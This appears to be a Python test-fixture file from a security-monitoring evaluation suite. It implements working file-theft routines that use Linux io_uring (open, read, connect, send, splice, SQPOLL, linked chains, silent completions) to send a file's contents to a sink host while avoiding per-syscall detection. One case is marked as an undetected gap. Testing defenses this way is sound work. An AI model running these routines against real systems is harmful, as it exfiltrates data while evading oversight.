"""Thefts by requests to an io_uring: none passes an entry of a system call of its own."""

import ctypes
import mmap
import os
import socket
import struct
import time

from evade import call, fixture, main, path, sink

SETUP, ENTER, REGISTER = 425, 426, 427
WRITEV, SENDMSG, OPENAT, CLOSE, READ, WRITE, CONNECT, SEND, SPLICE = 2, 9, 18, 19, 22, 23, 16, 26, 30
SOCKET, SEND_ZC = 45, 47
SQPOLL, SINGLE_ISSUER, DEFER_TASKRUN = 2, 1 << 12, 1 << 13
FIXED, LINK, ASYNC, CQE_SKIP = 1, 4, 16, 64
REGISTER_FILES = 2


class Ring:
    """Requests and their answers (io_uring(7), include/uapi/linux/io_uring.h)."""

    def __init__(self, flags=0, entries=8):
        params = ctypes.create_string_buffer(120)
        struct.pack_into("<I", params, 8, flags)
        struct.pack_into("<I", params, 16, 10_000)
        self.fd = call(SETUP, entries, params)
        self.flags = flags
        self.asked = 0
        head = struct.unpack_from("<10I", params, 40)
        self.sq = dict(head=head[0], tail=head[1], mask=head[2], array=head[6])
        tail = struct.unpack_from("<10I", params, 80)
        self.cq = dict(head=tail[0], tail=tail[1], mask=tail[2], cqes=tail[5])
        self.rings = mmap.mmap(self.fd, 8192 if entries > 8 else 4096, mmap.MAP_SHARED, mmap.PROT_READ | mmap.PROT_WRITE, offset=0)
        self.entries = mmap.mmap(self.fd, max(4096, entries * 64), mmap.MAP_SHARED, mmap.PROT_READ | mmap.PROT_WRITE, offset=0x10000000)

    def word(self, at, value=None):
        if value is not None:
            struct.pack_into("<I", self.rings, at, value)
        return struct.unpack_from("<I", self.rings, at)[0]

    def register(self, *files):
        call(REGISTER, self.fd, REGISTER_FILES, (ctypes.c_int * len(files))(*files), len(files))

    def push(self, opcode, fd, address=0, length=0, offset=0, how=0, flags=0, slot=0):
        """Asks for it with the next `submit`. `slot` is that of a file to be made, from 1, or the descriptor that is spliced from."""
        tail = self.word(self.sq["tail"])
        at = tail & self.word(self.sq["mask"])
        entry = struct.pack(
            "<BBHiQQIIQHHi", opcode, how, 0, fd, offset & (2**64 - 1), address, length, flags, 0, 0, 0, slot
        )
        self.entries[at * 64 : at * 64 + 64] = entry.ljust(64, b"\0")
        self.word(self.sq["array"] + 4 * at, at)
        self.word(self.sq["tail"], tail + 1)
        self.asked += 1

    def submit(self, wait=True):
        """Submits what was asked for."""
        # Wakes the thread that polls, and waits for all answers.
        wake = 2 if self.flags & SQPOLL else 0
        asked, self.asked = self.asked, 0
        if wait:
            call(ENTER, self.fd, 0 if wake else asked, asked, 1 | wake, None, 0)
        else:
            call(ENTER, self.fd, asked, 0, wake, None, 0)

    def answers(self, count):
        """What the kernel answers to that."""
        results = []
        for _ in range(count):
            head = self.word(self.cq["head"])
            at = self.cq["cqes"] + 16 * (head & self.word(self.cq["mask"]))
            [result] = struct.unpack_from("<i", self.rings, at + 8)
            self.word(self.cq["head"], head + 1)
            if result < 0:
                raise OSError(-result, os.strerror(-result))
            results.append(result)
        return results

    def ask(self, *args, **more):
        """The one answer."""
        self.push(*args, **more)
        self.submit()
        return self.answers(1)[0]


def address(buffer):
    return ctypes.addressof(buffer)


def text(value):
    return ctypes.create_string_buffer(value.encode() + b"\0")


def steal(flags=0, before=False):
    ring = Ring(flags)
    name, into = text(path()), ctypes.create_string_buffer(4096)
    host, port = sink()
    to = ctypes.create_string_buffer(struct.pack("=HH", socket.AF_INET, socket.htons(port)) + socket.inet_aton(host) + bytes(8))
    stream = ring.ask(SOCKET, socket.AF_INET, length=0, offset=socket.SOCK_STREAM)
    if before:
        ring.ask(CONNECT, stream, address(to), offset=16)
    fd = ring.ask(OPENAT, -100, address(name))
    length = ring.ask(READ, fd, address(into), 4096)
    if not before:
        ring.ask(CONNECT, stream, address(to), offset=16)
    ring.ask(SEND, stream, address(into), length)
    ring.ask(CLOSE, stream)


def connected():
    return socket.create_connection(sink())


DENY = dict(enforce="deny", audit="found", twin="pass")


@fixture("B39", "open, read, connect and send by io_uring", **DENY)
def all_of_it():
    steal()


@fixture("B39", "the same, on a connection made before", **DENY)
def on_old_connection():
    steal(before=True)


@fixture("B39", "the same, by a thread of the kernel that polls (SQPOLL)", **DENY)
def polled():
    steal(SQPOLL)


def in_one_submission(how, flags=0):
    """The file and the socket are the ring's own: neither has a descriptor. As many bytes are sent as are asked for."""
    ring = Ring(flags)
    stream = connected()
    ring.register(-1, stream.fileno())
    name, into = text(path()), ctypes.create_string_buffer(os.stat(path()).st_size)
    ring.push(OPENAT, -100, address(name), how=how, slot=1)
    ring.push(READ, 0, address(into), len(into), how=how | FIXED)
    ring.push(SEND, 1, address(into), len(into), how=FIXED)
    ring.submit()
    ring.answers(3)


@fixture("B39", "a chain of open, read and send on files of the ring's own", **DENY)
def chain():
    in_one_submission(LINK)


@fixture("B39", "the same as a batch of which each completes at once", **DENY)
def batch():
    in_one_submission(0)


@fixture("B39", "the chain, each carried out by a worker of the ring's", **DENY)
def chain_by_workers():
    in_one_submission(LINK | ASYNC)


@fixture("B39", "the chain, told of only when it is asked for (DEFER_TASKRUN)", **DENY)
def chain_deferred():
    in_one_submission(LINK, SINGLE_ISSUER | DEFER_TASKRUN)


@fixture(
    "B39",
    "the chain, of which no completion is told (CQE_SKIP_SUCCESS)",
    enforce="gap",
    audit="gap",
    twin="none",
    why="requests of which no completion is told",
)
def chain_silent():
    ring = Ring()
    stream = connected()
    ring.register(-1, stream.fileno())
    name, into = text(path()), ctypes.create_string_buffer(os.stat(path()).st_size)
    ring.push(OPENAT, -100, address(name), how=LINK | CQE_SKIP, slot=1)
    ring.push(READ, 0, address(into), len(into), how=LINK | FIXED | CQE_SKIP)
    ring.push(SEND, 1, address(into), len(into), how=FIXED)
    ring.submit(wait=False)
    until(lambda: ring.answers(1) if ring.word(ring.cq["tail"]) else os.stat("/nowhere"))


@fixture("B39", "the batch, behind a hundred requests that do nothing", **DENY)
def batch_behind_others():
    ring = Ring(entries=128)
    stream = connected()
    ring.register(-1, stream.fileno())
    name, into = text(path()), ctypes.create_string_buffer(os.stat(path()).st_size)
    for _ in range(100):
        ring.push(0, -1)
    ring.push(OPENAT, -100, address(name), slot=1)
    ring.push(READ, 0, address(into), len(into), how=FIXED)
    ring.push(SEND, 1, address(into), len(into), how=FIXED)
    ring.submit()
    ring.answers(103)


@fixture("B39", "read by a ring into memory that another process has mapped, too", **DENY)
def into_shared_memory():
    memory = mmap.mmap(-1, 4096)
    place = address(ctypes.c_char.from_buffer(memory))
    pid = os.fork()
    if pid == 0:
        with connected() as stream:
            while memory[0:1] == b"\0":
                pass
            stream.sendall(bytes(memory).rstrip(b"\0"))
        os._exit(0)
    ring, size, name = Ring(), os.stat(path()).st_size, text(path())
    fd = ring.ask(OPENAT, -100, address(name))
    ring.ask(READ, fd, place + 1, size - 1, offset=1)
    ring.ask(READ, fd, place, 1, offset=0)
    os.waitpid(pid, 0)


@fixture("B39", "an open of which the completion is never asked for, then read and send", **DENY)
def open_untold():
    stream = connected()
    ring = Ring(SINGLE_ISSUER | DEFER_TASKRUN)
    name = text(path())
    ring.push(OPENAT, -100, address(name), how=ASYNC)
    free = os.dup(0)
    os.close(free)
    ring.submit(wait=False)
    content = until(lambda: os.pread(free, 4096, 0))
    stream.sendall(content)


def until(act):
    for _ in range(10_000):
        try:
            return act()
        except OSError:
            time.sleep(0.001)
    raise TimeoutError


def sending(opcode):
    """Read by calls, on a connection made before, sent by the ring."""
    stream, ring = connected(), Ring()
    with open(path(), "rb") as file:
        into = ctypes.create_string_buffer(file.read())
    part = ctypes.create_string_buffer(struct.pack("<QQ", address(into), len(into) - 1))
    message = ctypes.create_string_buffer(struct.pack("<QIIQQQQi", 0, 0, 0, address(part), 1, 0, 0, 0).ljust(56, b"\0"))
    if opcode in (SEND, WRITE, SEND_ZC):
        ring.ask(opcode, stream.fileno(), address(into), len(into) - 1)
    elif opcode == WRITEV:
        ring.ask(WRITEV, stream.fileno(), address(part), 1)
    else:
        ring.ask(SENDMSG, stream.fileno(), address(message), 1)


@fixture("B39", "SEND on an old connection of what a call read", **DENY)
def send():
    sending(SEND)


@fixture("B39", "WRITE on an old connection of what a call read", **DENY)
def write():
    sending(WRITE)


@fixture("B39", "WRITEV on an old connection of what a call read", **DENY)
def writev():
    sending(WRITEV)


@fixture("B39", "SENDMSG on an old connection of what a call read", **DENY)
def sendmsg():
    sending(SENDMSG)


@fixture("B39", "SEND_ZC on an old connection of what a call read", **DENY)
def send_zero_copy():
    sending(SEND_ZC)


@fixture("B39", "SPLICE from the file to a pipe and from there to an old connection", **DENY)
def splice():
    stream, ring = connected(), Ring()
    size = os.stat(path()).st_size
    file = os.open(path(), os.O_RDONLY)
    out, into = os.pipe()
    none = 2**64 - 1
    ring.ask(SPLICE, into, 0, size, offset=none, slot=file)
    ring.ask(SPLICE, stream.fileno(), none, size, offset=none, slot=out)


@fixture("B36", "a pipe that a ring writes and another process reads by a ring, and sends", **DENY)
def pipe():
    out, into = os.pipe()
    if os.fork() == 0:
        content = open(path(), "rb").read()
        buffer = ctypes.create_string_buffer(content)
        Ring().ask(WRITE, into, address(buffer), len(content), offset=-1)
        os._exit(0)
    stream, ring = connected(), Ring()
    buffer = ctypes.create_string_buffer(4096)
    length = ring.ask(READ, out, address(buffer), 4096, offset=-1)
    ring.ask(SEND, stream.fileno(), address(buffer), length)
    os.wait()


main()
